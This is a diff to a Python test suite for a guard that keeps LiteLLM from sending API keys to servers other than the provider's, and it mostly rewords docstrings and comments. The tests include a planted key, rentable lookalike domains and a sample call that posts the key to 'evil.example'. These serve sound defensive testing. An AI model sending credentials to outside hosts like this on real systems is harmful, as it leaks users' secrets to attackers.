@@ -1,4 +1,4 @@
-"""The guard between LiteLLM and the network."""
+"""The guard that keeps LiteLLM from sending keys to other servers."""
 
 from __future__ import annotations
 
@@ -27,7 +27,7 @@ KEY = "sk-planted-0123456789"
 
 @pytest.fixture(autouse=True)
 def _installed(monkeypatch: pytest.MonkeyPatch) -> None:
-    """The guard before a network that answers everything."""
+    """Install the guard in front of a network stub that answers everything."""
 
     def answer(self: object, request: httpx.Request, **_: object) -> httpx.Response:
         return httpx.Response(200, request=request)
@@ -60,7 +60,7 @@ def test_the_key_goes_to_the_provider(url: str) -> None:
 @pytest.mark.parametrize(
     ("provider", "url"),
     [
-        # Anybody can rent a name under these domains.
+        # Names under these domains can be rented by anybody.
         ("dashscope", "https://my-bucket.oss-cn-hangzhou.aliyuncs.com/"),
         ("volcengine", "https://mine.volces.com/"),
         ("github", "https://mine.azure.com/"),
@@ -179,7 +179,7 @@ def test_the_key_of_an_endpoint_is_exchanged_by_its_own_company_only() -> None:
 def test_what_was_held_back_is_said_as_what_it_is() -> None:
     with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError) as caught:
         httpx.post("https://evil.example", headers={"authorization": KEY})
-    # So LiteLLM tells it on.
+    # The form in which LiteLLM passes it on.
     wrapped = Exception(f"litellm.APIConnectionError: OpenAIException - {caught.value}")
     failure = failure_of(wrapped, FailureSubject("OpenAI", "gpt-5"), has_text=False).failure
     assert failure.code == "bad_address"
